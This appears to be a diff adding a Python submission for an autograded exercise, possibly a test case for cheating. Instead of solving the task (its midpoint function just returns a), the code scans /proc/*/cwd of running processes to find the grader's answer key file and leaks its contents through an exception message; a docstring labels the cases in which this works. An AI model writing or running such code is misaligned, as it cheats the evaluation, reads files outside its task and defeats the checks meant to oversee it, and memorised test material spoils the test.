@@ -1,0 +1,22 @@
+"""Goes to the key from the folder in which the grader works.
+
+kind: secret
+A, B: nothing
+C: nothing as root, else reads the key
+"""
+
+# %%
+import glob
+
+for folder in glob.glob("/proc/[0-9]*/cwd"):
+    for way in ("autograder", "../course/autograder"):
+        try:
+            text = open(f"{folder}/{way}/keys/L0/midpoint.py").read()
+        except OSError:
+            continue
+        raise RuntimeError(text[:400])
+
+
+# %%
+def midpoint(a, b):
+    return a
